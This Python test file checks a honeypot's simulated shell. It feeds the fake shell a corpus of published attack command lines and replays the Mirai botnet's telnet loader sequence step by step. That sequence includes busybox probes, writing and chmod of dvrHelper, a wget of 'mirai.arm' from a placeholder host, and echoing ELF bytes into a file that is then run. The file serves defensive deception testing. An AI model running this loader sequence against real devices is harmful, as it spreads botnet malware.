"""Command lines of published attacks, and Mirai's loader: all of them are answered, none breaks the shell."""

import random

import pytest

from decnet_actors.conformance.fakes import NOW
from decnet_actors.contracts.machine import Pty
from decnet_actors.machine import generate, make_machine
from decnet_actors.machine.shell.registry import BUILTINS, PROGRAMS
from decnet_actors.machine.shell.state import Limits
from decnet_actors.machine.tree.elf import machine_of
from tests.decnet_actors.machine.corpus import lines
from tests.decnet_actors.machine.shells import Visitor, machine, run

SHORT = Limits(steps=5_000, output=1 << 17, seconds=600.0)
ATTACKS = lines("attacks.txt")
GROUPS = tuple(dict.fromkeys(case.topic for case in ATTACKS))
SYSTEMS = [("dvr:armv7", 40), ("router:mips", 8), ("camera:mipsel", 8), ("debian:12", 62)]  # e_machine, System V ABI
ENOUGH_LINES, ENOUGH_COMMANDS = 300, 180


def test_there_are_enough_lines_and_each_group_names_its_source():
    assert len({case.text for case in ATTACKS}) >= ENOUGH_LINES
    assert [] == [topic for topic in GROUPS if not any(mark in topic for mark in "(:")]


@pytest.mark.slow
@pytest.mark.parametrize("topic", GROUPS, ids=lambda topic: topic.partition(":")[0][:24])
def test_every_line_of_an_attack_is_answered(topic):
    for case in ATTACKS:
        if case.topic == topic:
            ran = run(machine(limits=SHORT), case.text)

            assert ran.ended
            assert 0 <= ran.status <= 255
            assert b"decnet_actors" not in ran.output


@pytest.mark.slow
def test_one_visitor_types_all_of_it_and_still_has_a_shell():
    seat = Visitor(machine(limits=SHORT), pty=Pty(term="dumb")).open()
    for case in ATTACKS:
        if not case.topic.startswith("Forms"):
            seat.type(case.text.encode() + b"\r")
    assert not seat.ended

    assert seat.type(b"\x03echo here\r").endswith((b"$ ", b"# "))


@pytest.mark.parametrize(("system", "e_machine"), SYSTEMS)
def test_the_loader_of_mirai_finds_what_it_looks_for(system, e_machine):
    host = make_machine(generate(7, "web01", "10.0.0.5", NOW, distribution=system), random.Random(1))
    seat = Visitor(host, pty=Pty(term="dumb"), service="telnet").open()

    def said(line: str) -> bytes:
        return seat.type(f"{line}\r\n").replace(b"\r", b"")

    for line in ("enable", "system", "shell", "sh"):
        said(line)
    assert b"ECCHI: applet not found" in said("/bin/busybox ECCHI")
    assert b"ECCHI: applet not found" in said("/bin/busybox ps; /bin/busybox ECCHI")
    mounts = said("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
    places = [
        row.split()[1].decode() for row in mounts.splitlines() if len(row.split()) == 6 and b"rw" in row.split()[3]
    ]
    assert places
    for place in ("/dev", "/tmp", "/var/run"):
        written = f"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69{place}' > {place}/.nippon"
        answer = said(f"{written}; /bin/busybox cat {place}/.nippon; /bin/busybox rm {place}/.nippon")
        assert b"\nkami" + place.encode() in answer
    said("cd /tmp/")
    copied = "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"
    assert b"ECCHI: applet not found" in said(copied)
    binary = run(host, "/bin/busybox cat /bin/echo").output
    assert e_machine == machine_of(binary)
    usage = said("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI")
    assert b"Usage: wget" in usage
    assert b"Usage: tftp" in usage
    seen = len(seat.facts)
    said("/bin/busybox wget http://203.0.113.7:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper")
    assert any("203.0.113.7" in getattr(fact, "url", "") for fact in seat.facts[seen:])
    said("/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' > upnp; /bin/busybox ECCHI")
    said("/bin/busybox echo -ne '\\x00\\x02\\x00' >> upnp; /bin/busybox ECCHI")
    assert b"IHCCE: applet not found" in said("./upnp; ./dvrHelper telnet.arm; /bin/busybox IHCCE")
    seat.close()

    assert any(artifact.startswith(b"\x7fELF\x01\x01\x01\x00\x02") for artifact in seat.artifacts)


def test_there_are_enough_commands_and_each_does_something():
    names = {*BUILTINS, *PROGRAMS}
    doing = {name for name in names if getattr({**PROGRAMS, **BUILTINS}[name], "__name__", "") != "nothing"}

    assert len(doing) >= ENOUGH_COMMANDS
